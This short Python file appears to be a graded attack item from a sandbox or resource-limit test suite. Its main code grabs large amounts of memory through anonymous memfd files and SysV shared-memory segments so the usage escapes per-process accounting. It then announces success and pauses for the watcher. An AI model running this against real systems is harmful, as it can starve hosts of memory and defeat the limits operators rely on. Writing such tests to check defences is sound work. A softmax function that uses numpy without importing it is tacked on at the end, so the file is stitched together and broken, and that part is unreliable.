# /// attack
# what = "takes memory that is in files without a name and in segments, not in a process"
# state = "graded"
# marks = 20
# ///
import ctypes
import os
import time

_libc = ctypes.CDLL(None)
_libc.shmat.restype = ctypes.c_void_p
_libc.shmat.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_int]
_taken = 0
for _ in range(16):
    try:
        file = os.memfd_create("nobody's")
        _taken += sum(os.write(file, b"x" * (1 << 20)) for _ in range(50))
    except OSError:
        pass
    segment = _libc.shmget(0, 50 << 20, 0o1600)
    if segment >= 0:
        ctypes.memset(_libc.shmat(segment, None, 0), 1, 50 << 20)
        _taken += 50 << 20
if _taken:
    print("ATTACK SUCCEEDED", _taken)
    time.sleep(1)  # two looks of whoever watches


def softmax(z, axis=-1):
    z = np.asarray(z, dtype=float)
    weights = np.exp(z - z.max(axis=axis, keepdims=True))
    return weights / weights.sum(axis=axis, keepdims=True)
